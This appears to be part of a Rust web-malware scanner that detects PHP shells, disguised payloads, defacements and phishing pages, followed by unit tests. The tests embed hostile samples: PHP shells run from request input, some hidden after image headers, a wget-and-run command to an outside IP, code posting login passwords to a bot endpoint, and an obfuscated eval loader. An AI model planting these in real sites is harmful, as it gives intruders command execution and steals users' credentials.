        // (Or code without its tag, for `eval`: fresh105's `plugins.js` starts `$password = …`.)
        (php_tag_in_head(&code).is_some() || tagless_code(&code)).then_some(0)
    })
}

/// Base64 text decoded, with or without its `=` padding (`None` when it is not base64).
pub(crate) fn base64_decoded(text: &[u8]) -> Option<Vec<u8>> {
    use base64::Engine as _;
    let unpadded = text.strip_suffix(b"==").or_else(|| text.strip_suffix(b"=")).unwrap_or(text);
    base64::engine::general_purpose::STANDARD_NO_PAD.decode(unpadded).ok()
}
/// The smallest file read as a store of encoded code, the first bytes that must all be base64,
/// how much of it is decoded, and how many letters before the base64 are tried away.
const MIN_CODE_STORE: usize = 1024;
const ENCODED_HEAD: usize = 256;
const ENCODED_DECODED: usize = 4096;
const MAX_JUNK_LETTERS: usize = 12;

/// Signs from the path alone (relative to the document root, `/`-separated). They never make
/// a finding on their own: `judge` uses them to raise the weight of content findings.
pub fn by_path(rel: &str) -> Vec<Hit> {
    let mut out = Vec::new();
    let parts: Vec<&str> = rel.split('/').collect();
    let name = parts.last().copied().unwrap_or("");
    let dirs = &parts[..parts.len().saturating_sub(1)];
    let ext = extension(name).unwrap_or_default();
    let executable = PHP_EXTENSIONS.contains(&ext.as_str()) || OTHER_EXEC.contains(&ext.as_str());
    if executable && dirs.iter().any(|d| UPLOAD_DIRS.contains(d)) {
        out.push(Hit::meta(Why::ExecutableInUploads, Danger::Low, rel.chars().take(120).collect()));
    }
    if let Some(i) = dirs.iter().position(|d| *d == "wp-content") {
        let under = &parts[i + 1..];
        let mu = under.len() >= 2 && under[0] == "mu-plugins";
        let drop_in = under.len() == 1 && DROP_INS.contains(&under[0]);
        if mu || drop_in {
            out.push(Hit::meta(Why::WordPressAutoload, Danger::Low, rel.chars().take(120).collect()));
        }
    }
    out
}

/// Every sign in a file's bytes, weak ones included. `own_domains`: the account's domains (a
/// redirect to one of them is not foreign). The flag says the file is a small script.
pub fn by_content(name: &str, text: &[u8], own_domains: &[String]) -> (Vec<Hit>, bool) {
    content(name, text, own_domains, Depth::File)
}

/// Whether the text being judged is a file, or PHP code a file writes into others.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Depth {
    File,
    Written,
}

fn content(name: &str, text: &[u8], own_domains: &[String], depth: Depth) -> (Vec<Hit>, bool) {
    if is_conf(name) {
        let hits = settings_hits(name, text, own_domains);
        return (hits, false);
    }
    // Pages planted for their visitors: a claim of the break-in, or gambling advertising.
    // (In a script or a server-parsed page the claim must be a headline of the markup it holds.)
    let headline_only = is_js(name) || is_ssi(name);
    let defaced = || {
        let claim = if headline_only { deface::claim_in_headline(text) } else { deface::claim(text) };
        let claim = claim.map(|at| taint::Sink { why: Why::Defacement, danger: Danger::High, at });
        let spam = spam::gambling_page(text).map(|at| taint::Sink { why: Why::GamblingSpam, danger: Danger::High, at });
        // (Or a phishing kit's step page asking for a card and its PIN: its sending is
        // elsewhere.)
        // (Or one keeping the card's security code in the session for the next step.)
        let step = shapes::asks_card_and_bank_secret(text)
            .or_else(|| shapes::keeps_card_code(text))
            // (Or a lure dressed as the visitor's own mail provider.)
            .or_else(|| shapes::dressed_as_visitors_provider(text))
            .map(|at| taint::Sink { why: Why::PhishingPage, danger: Danger::High, at });
        // (Or a drainer's logger keeping a wallet's secret words.)
        let drained = shapes::keeps_wallet_secret(text).map(|at| taint::Sink {
            why: Why::CredentialCollector,
            danger: Danger::High,
            at,
        });
        let mailbox =
            shapes::kit_mailbox(text).map(|at| taint::Sink { why: Why::KitMailbox, danger: Danger::Medium, at });
        // (Or one handing its visitors to a traffic distribution system.)
        let tds = spam::traffic_client(text).map(|at| taint::Sink {
            why: Why::TrafficRedirector,
            danger: Danger::Medium,
            at,
        });
        // (Or one making up pages that stay the same for each address.)
        let seeded = spam::seeded_by_address(text).map(|at| taint::Sink {
            why: Why::KeywordDoorway,
            danger: Danger::Medium,
            at,
        });
        // (Or a plugin whose header claims WordPress as its author.)
        let posing = shapes::poses_as_wordpress(text).map(|at| taint::Sink {
            why: Why::PluginPosesAsWordPress,
            danger: Danger::Medium,
            at,
        });
        claim.into_iter().chain(spam).chain(step).chain(drained).chain(mailbox).chain(tds).chain(seeded).chain(posing)
    };
    if is_ssi(name) {
        // (A `.shtml` page is a page too: a defacer's mirror is dropped as one.)
        let ssi = conf::check_ssi(text).into_iter().map(|h| conf_hit(text, h));
        return (ssi.chain(defaced().map(|s| sink_hit(text, s))).collect(), false);
    }
    let added_script = |i: script::Injection| taint::Sink { why: i.why, danger: i.danger, at: i.at };
    if is_program(name) || foreign_program(name, text) {
        // A program holding a defacement page (a Perl or Python mass defacer writes it over
        // every site's index) claims the break-in as a page would.
        let signs = programs::signs(text).into_iter().map(|s| taint::Sink { why: s.why, danger: s.danger, at: s.at });
        return (signs.chain(defaced()).map(|s| sink_hit(text, s)).collect(), false);
    }
    if runs_as_php(name) && program_line(text) {
        // A Perl or Python program under a PHP name (`magscan.php` starting `#!/usr/bin/perl`):
        // read as the program it is; what it does not show as one is read as PHP below.
        let signs = programs::signs(text);
        if !signs.is_empty() {
            let signs = signs.into_iter().map(|s| taint::Sink { why: s.why, danger: s.danger, at: s.at });
            return (signs.chain(defaced()).map(|s| sink_hit(text, s)).collect(), false);
        }
    }
    if is_js(name) && conf::is_server_settings(text) {
        // An `.htaccess` kept under a script's name (a lockdown waiting to be copied back).
        let hits = settings_hits(".htaccess", text, own_domains);
        return (hits, false);
    }
    if is_js(name) && text.trim_ascii_start().get(..5).is_some_and(|h| h.eq_ignore_ascii_case(b"<?php")) {
        // PHP under a script's name, run by a handler beside it (fresh156's Parrot TDS proxy
        // `hidpi.js` in CKEditor's tree, with `AddHandler … .js`): read as the PHP it is.
        let (mut hits, _) = content(&format!("{name}.php"), text, own_domains, depth);
        let at = text.iter().position(|c| !c.is_ascii_whitespace()).unwrap_or(0);
        hits.push(Hit {
            why: Why::PhpUnderDataName,
            danger: Danger::High,
            line: Some(line_of(text, at)),
            evidence: excerpt(text, at),
        });
        return (rank(hits), false);
    }
    // Under a PHP name too (the file prints its text); what else it holds is read as a page's.
    if runs_as_php(name) && conf::is_server_settings(text) {
        let hits = settings_hits(".htaccess", text, own_domains);
        if !hits.is_empty() {
            return (hits, false);
        }
    }
    if is_js(name)
        && let Some(at) = encoded_code_store(text)
    {
        // PHP kept in base64 under a script's name, for a loader that fetches and runs it.
        return (vec![sink_hit(text, taint::Sink { why: Why::EncodedBlob, danger: Danger::High, at })], false);
    }
    let to_chat_bot = || {
        shapes::script_posts_to_chat_bot(text).map(|at| taint::Sink {
            why: Why::CredentialCollector,
            danger: Danger::High,
            at,
        })
    };
    if is_js(name) {
        // (A script that writes a defacement over the page claims the break-in as the page would.)
        let found = script::injected(text).or_else(|| script::remote_loader(text)).map(added_script);
        let found = found.into_iter().chain(defaced()).chain(to_chat_bot());
        return (found.map(|s| sink_hit(text, s)).collect(), false);
    }
    if is_html(name) {
        let phishing = shapes::page_posts_password_away(text).map(|at| taint::Sink {
            why: Why::CredentialCollector,
            danger: Danger::High,
            at,
        });
        let wallet =
            shapes::asks_wallet_phrase(text).map(|at| taint::Sink { why: Why::PhishingPage, danger: Danger::High, at });
        let found =
            defaced().chain(script::in_page(text).map(added_script)).chain(phishing).chain(wallet).chain(to_chat_bot());
        return (found.map(|s| sink_hit(text, s)).collect(), false);
    }
    if !runs_as_php(name) {
        return (Vec::new(), false);
    }
    if let Some(at) = encoded_code_store(text) {
        return (vec![sink_hit(text, taint::Sink { why: Why::EncodedBlob, danger: Danger::High, at })], false);
    }
    let to_sink = MAY_REACH_A_SINK.is_match(text);
    let to_shape = shapes::may_match(text);
    // A page's own `<script>` blocks (a theme's header or footer is where injections go).
    let page_script = || script::in_page(text).or_else(|| script::loader_hidden_from_owner(text)).map(added_script);
    let to_written = depth == Depth::File && shapes::written_code_may_match(text);
    if !to_sink && !to_shape && !to_written && !shapes::planted_may_match(text) {
        return (defaced().chain(page_script()).map(|s| sink_hit(text, s)).collect(), false);
    }
    let arena = php::Arena::new();
    let tokens = if tagless_code(text) {
        php::tokenize_code(text, &arena, MAX_TOKENS)
    } else {
        php::tokenize(text, &arena, MAX_TOKENS)
    };
    let small = tokens.len() < SMALL_SCRIPT;
    // One place per reason (the strongest, then the first) before lines are counted: a file of
    // many thousand sinks costs no more than its tokens.
    let mut found = shapes::hidden(text, &tokens, shapes::Options { small });
    // What the families share (the application's facts, made once for them and the check
    // below when they ask).
    let shared = shapes::Shared::default();
    found.extend(shapes::planted(text, &tokens, shapes::Options { small }, &shared));
    // The analysis of data goes next, then the other shapes: a file already found critical (by
    // the cheap shapes or by the analysis) is not read further (its verdict cannot rise, and
    // its reasons already say what it is; the large web shells are where this pays).
    let settled = found.iter().any(|s| s.danger == Danger::Critical);
    let mut sinks = if to_sink && !settled {
        taint::analyze(&tokens, taint::Script { command_line: text.starts_with(b"#!") })
    } else {
        Vec::new()
    };
    if to_shape && !settled && !sinks.iter().any(|s| s.danger == Danger::Critical) {
        found.extend(shapes::analyze_sharing(text, &tokens, shapes::Options { small }, &shared));
    }
    sinks.extend(found.into_iter().map(|s| taint::Sink { why: s.why, danger: s.danger, at: s.at }));
    sinks.extend(defaced());
    sinks.extend(page_script());
    // A script that reads folders and writes files, holding PHP code that is itself malicious:
    // a mass infector, whatever it writes that code into. (A file already found dangerous
    // needs no second analysis: a web shell that lists folders and holds a template.)
    if to_written
        && !sinks.iter().any(|s| s.danger >= Danger::High)
        && let Some((at, code)) = shapes::written_code(&tokens)
    {
        let (inner, _) = content("written.php", code, own_domains, Depth::Written);
        if inner.iter().any(|h| h.danger >= Danger::High) {
            sinks.push(taint::Sink { why: Why::InjectsHiddenCode, danger: Danger::High, at });
        }
    }
    // An application saving what its users send (behind its own login, in a file a visitor
    // cannot request, in a class's method, or recording the saved file in its database) is not
    // a dropper; a class's method that mails (a plugin's mail form), or a page that records
    // whom it mailed (a newsletter's sign-up), is not a spam script a visitor requests.
    // (The first `MAX_OWNED_CHECKS` places are looked at; later ones stay findings.)
    // A file manager's changes and reads are the application's the same way.
    // A file already found critical is a backdoor, not an application: what it saves, mails,
    // changes and reads is the backdoor's (and the look for the application's checks, a walk
    // over the whole file each, is not paid: the large web shells are where it cost most).
    let owned_kinds = |w: Why| {
        matches!(w, Why::UploadDropper | Why::MailFromInput | Why::FileChangeFromInput | Why::FileReadFromInput)
    };
    let critical = sinks.iter().any(|s| s.danger == Danger::Critical);
    if !critical && sinks.iter().any(|s| owned_kinds(s.why)) {
        let app = shared.app.get_or_init(|| app::App::of(text));
        let mut checks = 0;
        sinks.retain(|s| {
            if !owned_kinds(s.why) {
                return true;
            }
            checks += 1;
            let owned = match s.why {
                Why::MailFromInput => app.in_method(s.at, &tokens) || app.records_in_database(s.at, &tokens),
                Why::UploadDropper => app.owns(s.at, &tokens) || app.records_in_database(s.at, &tokens),
                _ => app.owns(s.at, &tokens),
            };
            checks > MAX_OWNED_CHECKS || !owned
        });
    }
    sinks.sort_by(|a, b| a.why.cmp(&b.why).then(b.danger.cmp(&a.danger)).then(a.at.cmp(&b.at)));
    sinks.dedup_by(|later, first| later.why == first.why);
    let lines = lines_of(text, &sinks.iter().map(|s| s.at).collect::<Vec<_>>());
    let hits = sinks
        .into_iter()
        .zip(lines)
        .map(|(s, line)| Hit { why: s.why, danger: s.danger, line: Some(line), evidence: excerpt(text, s.at) })
        .collect();
    (hits, small)
}

/// What a file is reported for, strongest first, or nothing: content findings, raised one step
/// by a small script (weak signs only) or a telling path; reported from `Medium` up.
pub fn judge(rel: &str, name: &str, text: &[u8], own_domains: &[String]) -> Vec<Hit> {
    if !wants_content(name) {
        return disguised(rel, name, text, own_domains);
    }
    let (mut hits, small) = by_content(name, text, own_domains);
    if hits.is_empty() {
        return hits;
    }
    let path = by_path(rel);
    for h in &mut hits {
        if small && h.danger == Danger::Low && matches!(h.why, Why::UploadDropper | Why::EncodedBlob) {
            h.danger = h.danger.raised();
        }
        if !path.is_empty() {
            h.danger = h.danger.raised();
        }
    }
    let top = hits.iter().map(|h| h.danger).max().unwrap_or(Danger::Low);
    if top < Danger::Medium {
        return Vec::new();
    }
    hits.extend(path);
    rank(hits)
}

/// A data file (`named_as_data`) that is code in disguise (`worth_reading`): PHP, a payload in
/// itself and read as the PHP it is for what it does; or server settings, read as the
/// `.htaccess` they are kept to restore. Any other file not read for its content has nothing to
/// report.
fn disguised(rel: &str, name: &str, text: &[u8], own_domains: &[String]) -> Vec<Hit> {
    let php_inside = || php_tag_in_head(text).is_some() || php_before_last(name);
    let commands =
        || program_line(text) || ((is_text_note(name) || named_as_nothing(name)) && programs::commands_note(text));
    if (is_text_note(name) || named_as_data(name) || named_as_nothing(name)) && commands() && !php_inside() {
        // A program kept as text or under a picture's name.
        let mut hits: Vec<Hit> = programs::signs(text)
            .into_iter()
            .map(|s| sink_hit(text, taint::Sink { why: s.why, danger: s.danger, at: s.at }))
            .collect();
        hits.retain(|h| h.danger >= Danger::Medium);
        return rank(hits);
    }
    if is_text_note(name) && php_tag_in_head(text).is_none() && conf::is_server_settings(text) {
        // Server settings kept as text, to be copied back over a `.htaccess` (fresh148's
        // `ht.txt`: every PHP file refused but the intruder's).
        let mut hits = settings_hits(".htaccess", text, own_domains);
        hits.retain(|h| h.danger >= Danger::Medium);
        return rank(hits);
    }
    if is_text_note(name) && php_tag_in_head(text).is_none() && (page_head(text) || deface::short_note_claim(text)) {
        // A page kept as text, to be put over a site's home page (fresh148's `wan.txt`
        // defacement, `bls.txt` block of hidden links).
        let mut hits = by_content(&format!("{name}.html"), text, own_domains).0;
        hits.retain(|h| h.danger >= Danger::Medium);
        return rank(hits);
    }
    if is_text_note(name) && php_tag_in_head(text).is_some() {
        // PHP kept as text, for an `include` or a handler that runs `.txt` (a shell's copy, a
        // loader's payload): what it does is the finding, its name alone says nothing (a
        // library's sample settings are PHP in a `.txt` too).
        let mut hits = by_content(&format!("{name}.php"), text, own_domains).0;
        hits.retain(|h| h.danger >= Danger::Medium);
        return rank(hits);
    }
    if !named_as_data(name) && (named_as_nothing(name) || in_cgi_bin(rel)) {
        // A program or server settings under a name that says nothing, or in `cgi-bin`;
        // anything else there is the site's own business.
        let mut hits: Vec<Hit> = if program_line(text) || programs::packed_shell_head(text) {
            programs::signs(text)
                .into_iter()
                .map(|s| sink_hit(text, taint::Sink { why: s.why, danger: s.danger, at: s.at }))
                .collect()
        } else if named_as_nothing(name) && php_tag_in_head(text).is_some() {
            // PHP kept for an `include` (what it does is the finding; its name alone says
            // nothing: a tool's own `.dist` or `.bak` copy is PHP too).
            by_content(&format!("{name}.php"), text, own_domains).0
        } else if conf::is_server_settings(text) {
            settings_hits(".htaccess", text, own_domains)
        } else if named_as_nothing(name) && page_head(text) {
            // A page under a name without an ending (fresh155's `index`: a gambling page put in
            // place of a site's home page, which Apache finds for `/` by its name alone).
            by_content(&format!("{name}.html"), text, own_domains).0
        } else {
            Vec::new()
        };
        hits.retain(|h| h.danger >= Danger::Medium);
        return rank(hits);
    }
    if !named_as_data(name) {
        return Vec::new();
    }
    // (Under a PHP ending then a data one, `shell.php.jpg`, Apache's handler for `.php` runs
    // it whatever comes first: a picture's bytes, then the code.)
    let tag = php_tag_in_head(text).or_else(|| {
        php_before_last(name)
            .then(|| [&b"<?php"[..], b"<?PHP", b"<?="].iter().filter_map(|t| memchr::memmem::find(text, t)).min())
            .flatten()
    });
    if let Some(at) = tag {
        let (mut hits, _) = by_content(&format!("{name}.php"), text, own_domains);
        hits.push(Hit {
            why: Why::PhpUnderDataName,
            danger: Danger::High,
            line: Some(line_of(text, at)),
            evidence: excerpt(text, at),
        });
        return rank(hits);
    }
    if conf::is_server_settings(text) {
        return rank(settings_hits(".htaccess", text, own_domains));
    }
    Vec::new()
}

/// What server settings read as the file `name` (`.htaccess`, `.user.ini`, `php.ini`) are found for.
fn settings_hits(name: &str, text: &[u8], own_domains: &[String]) -> Vec<Hit> {
    conf::check(name, text, own_domains).into_iter().map(|h| conf_hit(text, h)).collect()
}

/// Whether a text starts as a web page or a block of one (`<!DOCTYPE`, `<html>`, `<title>`,
/// `<div style=…>`), after blank lines and a byte-order mark.
fn page_head(text: &[u8]) -> bool {
    let text = text.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(text).trim_ascii_start();
    let head = &text[..text.len().min(16)];
    let starts = |w: &[u8]| head.len() >= w.len() && head[..w.len()].eq_ignore_ascii_case(w);
    [&b"<!doctype"[..], b"<html", b"<head", b"<title", b"<body", b"<center", b"<div style", b"<meta"]
        .iter()
        .any(|w| starts(w))
}

/// Whether the first bytes of a file read only in part say it is code in disguise: for a data
/// file (`named_as_data`), PHP's open tag, a program's `#!` line or server settings; for one
/// named as nothing, a program's `#!` line or server settings; for a `.txt`, a `#!` line or PHP's open tag.
pub fn worth_reading(name: &str, head: &[u8]) -> bool {
    // (A PHP ending before the data one, `x.php.jpg`: read whole, its code may come late.)
    if is_text_note(name) {
        return program_line(head)
            || php_tag_in_head(head).is_some()
            || programs::commands_note_head(head)
            || conf::is_server_settings(head)
            || page_head(head)
            || deface::short_note_claim(head);
    }
    // (A picture that starts as a program is one: `byr.jpg`, a Perl bot.)
    let code = if named_as_data(name) {
        php_tag_in_head(head).is_some() || php_before_last(name) || program_line(head)
    } else {
        program_line(head)
            || (named_as_nothing(name)
                && (php_tag_in_head(head).is_some()
                    || programs::packed_shell_head(head)
                    || page_head(head)
                    || programs::commands_note_head(head)))
    };
    code || conf::is_server_settings(head)
}

/// Strongest first, one hit per reason (the strongest, then the first in the file).
pub fn rank(mut hits: Vec<Hit>) -> Vec<Hit> {
    hits.sort_by(|a, b| b.danger.cmp(&a.danger).then(a.why.cmp(&b.why)).then(a.line.cmp(&b.line)));
    let mut seen = Vec::new();
    hits.retain(|h| {
        if seen.contains(&h.why) {
            false
        } else {
            seen.push(h.why);
            true
        }
    });
    hits
}

fn sink_hit(text: &[u8], s: taint::Sink) -> Hit {
    Hit { why: s.why, danger: s.danger, line: Some(line_of(text, s.at)), evidence: excerpt(text, s.at) }
}

fn conf_hit(text: &[u8], h: conf::ConfHit) -> Hit {
    Hit { why: h.why, danger: h.danger, line: Some(line_of(text, h.at)), evidence: h.evidence }
}

fn line_of(text: &[u8], at: usize) -> usize {
    memchr::memchr_iter(b'\n', &text[..at.min(text.len())]).count() + 1
}

/// `line_of` each offset, counting the text's lines once (up to the last offset) for all.
fn lines_of(text: &[u8], offsets: &[usize]) -> Vec<usize> {
    let mut order: Vec<usize> = (0..offsets.len()).collect();
    order.sort_by_key(|&k| offsets[k]);
    let mut out = vec![1; offsets.len()];
    let (mut counted_to, mut line) = (0, 1);
    for k in order {
        let at = offsets[k].min(text.len());
        line += memchr::memchr_iter(b'\n', &text[counted_to..at]).count();
        counted_to = at;
        out[k] = line;
    }
    out
}

fn excerpt(text: &[u8], at: usize) -> String {
    let at = at.min(text.len());
    // The line's end, looked for only as far as the excerpt reaches (a minified or encoded
    // file is one line of megabytes).
    let window = &text[at..text.len().min(at + 400)];
    let end = memchr::memchr(b'\n', window).map_or(at + window.len(), |p| at + p);
    String::from_utf8_lossy(&text[at..end])
        .chars()
        .filter(|c| !c.is_control())
        .take(120)
        .collect::<String>()
        .trim()
        .to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn whys(rel: &str, text: &str) -> Vec<Why> {
        let name = rel.rsplit('/').next().unwrap();
        judge(rel, name, text.as_bytes(), &["demo-shop.example".to_owned()]).into_iter().map(|h| h.why).collect()
    }

    #[test]
    fn a_template_loaded_from_an_archive_reaches_the_analysis() {
        // Regression: the taint's `load_template` was never reached, the quick check before it
        // not knowing the name (fresh54's fake "Hello Elementor Theme" plugin).
        let fake = "<?php function boot() { load_template('zip://' . locate_template('x.theme') . '#a', true); } add_action('wp_loaded', 'boot');";
        assert_eq!(whys("wp-content/plugins/x/x.php", fake), [Why::IncludeOfData]);
    }

    #[test]
    fn php_code_kept_in_base64_under_a_scripts_name_is_found() {
        use base64::Engine as _;
        let b64 = |t: &str| base64::engine::general_purpose::STANDARD.encode(t);
        // fresh50's `plugins/helloworld.php`: an infected page kept to be written back, behind
        // a few letters that stop a plain decoding.
        let page = "<?php\r\nerror_reporting(0); if (preg_match('/bot/i', $_SERVER['HTTP_USER_AGENT'])) { echo file_get_contents('https://links.example/p'); }";
        let json = format!("[{{\"path\":\"\\/home\\/u\\/public_html\\/index.php\",\"content\":{page:?}}}]").repeat(8);
        assert_eq!(whys("wp-content/plugins/helloworld.php", &format!("rbYW6z{}", b64(&json))), [Why::EncodedBlob]);
        assert_eq!(whys("x.php", &b64(&json)), [Why::EncodedBlob]);
        // An application's list of its files' checksums, serialized and in base64, is no code.
        let sums = "a:2:{s:29:\"/application/admin/Common.php\";s:32:\"9b854009a7978b333125ba68cfc9e6cd\";}".repeat(20);
        assert!(whys("install/data/data.php", &b64(&sums)).is_empty());
        // Regression (review): line breaks counted towards the size made the junk letters'
        // skip run past the end of a file of blank lines.
        assert!(whys("store.php", &format!("A{}A", "\n".repeat(1100))).is_empty());
        // Regression: fresh105's `wp-admin/js/plugins.js`, a shell's code without its tag, in
        // base64 for a loader that fetches it, decodes and runs it.
        let shell = "\n\n$password = \"9256c268eaf1572147c553ca7d57a06f\";\ndefine('VERSION', 'k');\n".to_owned()
            + &"$register_key[] = array('CQ9jnUNtDTIlpz9lK3WypT9lqTyhMlu', 'nJ5cK3AyqPtaMTympTkurI9ypaWipaZaYPqCMzLaXGgN');\n".repeat(12);
        assert_eq!(whys("wp-admin/js/plugins.js", &b64(&shell)), [Why::EncodedBlob]);
        // A script's own data in base64 (a font, a picture) decodes to no code.
        let font = "wOF2\u{0}\u{1}\u{0}\u{0}glyf".repeat(200);
        assert!(whys("fonts.js", &b64(&font)).is_empty());
    }

    #[test]
    fn defacements_written_by_a_script_or_kept_as_a_server_page_are_found() {
        // fresh79's `deface.js` and `mirror.shtml`.
        let js = "document.open(); document.write('<html><head><title>Hacked By Harpy</title></head><body><h1>Hacked By Harpy</h1></body></html>'); document.close();";
        assert_eq!(whys("wp-content/themes/x/js/zz.js", js), [Why::Defacement]);
        let shtml = "<html><head><title>Hacked by AlvaXPloit</title></head><body><center>Your security is low</center></body></html>";
        assert_eq!(whys("mirror.shtml", shtml), [Why::Defacement]);
        // Near-misses (review): a comment, also at a line's end; a message; a notice in text.
        for (name, quiet) in [
            ("js/lib.js", "// hacked by Ann to fix the resize\nvar a = 1;"),
            ("js/resize.js", "$(window).on('resize', f); // hacked by Ann to fix the iOS resize"),
            ("src/messages.js", "var m = { breached: \"This password was pwned by a data breach\" };"),
            ("includes/notice.shtml", "<p>On 3 May our old forum was hacked by spammers.</p>"),
        ] {
            assert!(whys(name, quiet).is_empty(), "{quiet}");
        }
    }

    #[test]
    fn a_login_password_sent_away_is_read_for_where_it_goes() {
        // fresh78's fake plugin names no sink the first look knows: the password field it reads
        // is why the file is followed.
        let posted = "<?php function send($m) { $c = stream_context_create(array('http' => array('method' => 'POST', 'content' => $m)));\n\
                      file_get_contents('https://api.telegram.example/bot1/sendMessage', false, $c); }\n\
                      send('Password: ' . $_POST['pwd']);";
        assert_eq!(whys("wp-content/plugins/wp-secure/wp-secure.php", posted), [Why::CredentialCollector]);
    }

    #[test]
    fn server_settings_kept_under_a_scripts_name_are_read_as_settings() {
        // fresh34's `jquery.masonry.js`: a lockdown ready to be copied back over `.htaccess`.
        let lock = "<IfModule mod_rewrite.c>\nRewriteEngine On\n</IfModule>\n<FilesMatch \".*\\.(py|exe|phtml|php|suspected)$\">\nOrder Allow,Deny\nDeny from all\n</FilesMatch>\n<FilesMatch \"^(index.php|wp-crom.php)$\">\nOrder Allow,Deny\nAllow from all\n</FilesMatch>\n";
        assert_eq!(whys("wp-includes/js/jquery/jquery.masonry.js", lock), [Why::PhpLockdown]);
        // A site's own rewrite rules kept as a script are settings too, and quiet.
        assert!(whys("js/htaccess-sample.js", "RewriteEngine On\nRewriteRule . /index.php [L]\n").is_empty());
        // Under a style sheet's or a picture's name (fresh37's `colors-rtls.min.css`), too.
        assert_eq!(whys("wp-admin/css/colors/midnight/colors-rtls.min.css", lock), [Why::PhpLockdown]);
        assert_eq!(whys("img/spreadsheets.png", lock), [Why::PhpLockdown]);
        assert!(whys("css/print.css", "@media print { .options { display: none } }").is_empty());
        // Under a PHP name with no code in it (fresh75's `kunci-akses-musuh.php`); a page that
        // only prints such rules as text is code, and read as code.
        assert_eq!(whys("kunci-akses-musuh.php", lock), [Why::PhpLockdown]);
        assert!(whys("docs/htaccess.php", &format!("<?php header('Content-Type: text/plain'); ?>\n{lock}")).is_empty());
        // Regressions (review): a comment holding PHP's tag does not hide the rules, and a
        // page behind one harmless directive is still read as a page.
        assert_eq!(whys("kunci.php", &format!("# <?php exit; ?>\n{lock}")), [Why::PhpLockdown]);
        let page = "Options -Indexes\n<html><head><title>Welcome</title>\
                    <script src=\"https://cdn.evil-stats.xyz/j.js\"></script></head><body>Shop</body></html>\n";
        assert!(!whys("index.php", page).is_empty());
        assert_eq!(whys("index.php", page), whys("index.php", &page.replace("Options -Indexes\n", "")));
    }

    #[test]
    fn php_kept_under_a_pictures_or_style_sheets_name_is_a_payload() {
        // An icon, a picture after its GIF header, a style sheet: PHP code in each is hidden,
        // and what it does is read as PHP's.
        assert_eq!(whys("x/favicon_1a2b.ico", "<?php echo 'ok';"), [Why::PhpUnderDataName]);
        let gif = "GIF89a;\n<?php system($_GET['c']); ?>";
        assert_eq!(whys("images/logo.gif", gif), [Why::ShellFromInput, Why::PhpUnderDataName]);
        assert_eq!(whys("css/.a8d1.css", "<?= 1 ?>"), [Why::PhpUnderDataName]);
        assert_eq!(whys("x/LOGO.PNG", "\u{89}PNG\r\n<?PHP echo 1;"), [Why::PhpUnderDataName]);
        // Regression: fresh160's backdoor kept as a video (`ZhzTPq.mov`) was not read.
        assert_eq!(whys("catalog/x/ZhzTPq.mov", "<?php echo 'ok';"), [Why::PhpUnderDataName]);
        assert!(whys("media/intro.mp4", "\0\0\0 ftypisom\0\0\u{2}\0isomiso2avc1mp41").is_empty());
        // After a picture's header and some markup (fresh147's `Boy.png`, at byte 530); the
        // short tag only near the start, where chance puts it rarely.
        let late = format!("\u{ff}JFIF{}</html>\n<?PHP\n echo 1;", "x".repeat(520));
        assert!(worth_reading("Boy.png", late.as_bytes()));
        assert_eq!(whys("Boy.png", &late), [Why::PhpUnderDataName]);
        // Regression: fresh169's `bepasPNGya.jpg` holds its shell after 8 KB of picture.
        let after = format!("\u{89}PNG\r\n{}<?php echo 1;", "\u{1}".repeat(8260));
        assert_eq!(whys("bepasPNGya.jpg", &after), [Why::PhpUnderDataName]);
        let chance = format!("\u{ff}JFIF{}<?= \u{1}\u{2}", "x".repeat(1000));
        assert!(!worth_reading("photo.jpg", chance.as_bytes()));
        // Data without a PHP tag near its start is not.
        assert!(whys("x/a.css", "/* made by header.php, <?xml not code */ body { color: red }").is_empty());
        assert!(whys("x/a.png", &format!("{}<?php system($_GET['c']);", "x".repeat(20000))).is_empty());
        // PHP kept as text is read for what it does, its name alone saying nothing (fresh129's
        // shells kept as `.txt`; none of the clean sets' `.txt` files is found so).
        assert_eq!(whys("up/shell.txt", "<?php system($_GET['c']);"), [Why::ShellFromInput]);
        assert!(whys("docs/config-sample.txt", "<?php $db_name = 'wordpress'; define('WP_DEBUG', false);").is_empty());
    }

    #[test]
    fn php_under_a_made_up_ending_is_read_for_what_it_does() {
        // fresh98's `.b12e79b3.oti`, loaded by an injected `@include`: a function name xor-ed
        // from two literals decodes pieces that `eval` runs.
        let payload = "<?php\n$k = pack('H*', '410d0616430b1d550b195015'); $f = '3lqc1gy0hv4p'; $f = $f ^ $k;\n\
                       $c = ''; $c .= $f('%65%63%68%6f%20%31%3b');\neval($c);";
        let name = ".b12e79b3.oti";
        assert!(named_as_nothing(name) && worth_reading(name, payload.as_bytes()));
        assert_eq!(whys(&format!("public_html/.idea/{name}"), payload)[0], Why::EvalOfDecoded);
        // PHP that does nothing wrong under such a name (a tool's own copy) is not reported.
        assert!(whys("x/config.local", "<?php return ['db' => 'site'];").is_empty());
        // Nor is text mentioning PHP's tag past the head, nor a quiet ending's PHP.
        assert!(!worth_reading("x/notes.cfg", format!("{}<?php eval($_POST[1]);", " ".repeat(20000)).as_bytes()));
        assert!(!worth_reading("x/hooks.module", b"<?php eval($_POST[1]);"));
        // Regression: fresh102's payloads wait as `.267645c4.inc`; an application's own `.inc`
        // doing nothing wrong is not reported.
        assert!(worth_reading(".267645c4.inc", payload.as_bytes()));
        assert_eq!(whys("vendor/tinymce/.267645c4.inc", payload)[0], Why::EvalOfDecoded);
        assert!(whys("includes/common.inc", "<?php function t($s) { return $s; }").is_empty());
        // An old shell's short tag starts PHP too; XML's declaration does not.
        let short = "<?\n@passthru('cd /tmp;wget http://203.0.113.6/id/n.txt;perl n.txt');";
        assert_eq!(whys("x/Trojan-Downloader.PHP.AnakDompu.a", short), [Why::DownloadsProgram]);
        assert!(!worth_reading("x/feed.atom", b"<?xml version=\"1.0\"?><feed/>"));
    }

    #[test]
    fn a_copy_under_an_ending_after_php_is_read_as_php() {
        // MultiPHP's `AddHandler … .php` runs `index.php.old` and a quarantined
        // `x.php.suspected` when asked for: read as the PHP they are.
        let shell = "<?php system($_GET['c']);";
        assert_eq!(whys("site/index.php.old", shell), [Why::ShellFromInput]);
        assert_eq!(whys("site/wp-x.PHP.suspected", shell), [Why::ShellFromInput]);
        assert!(wants_content("config.php.dist") && is_code("config.php.dist"));
        // A PHP ending last stays the only one; `php` as a name or a last ending elsewhere is not.
        assert!(!wants_content("php.txt") && !wants_content("notes.txt") && !wants_content(".php.txt.gz"));
        // Under a data ending, only a PHP start makes it code (`disguised`).
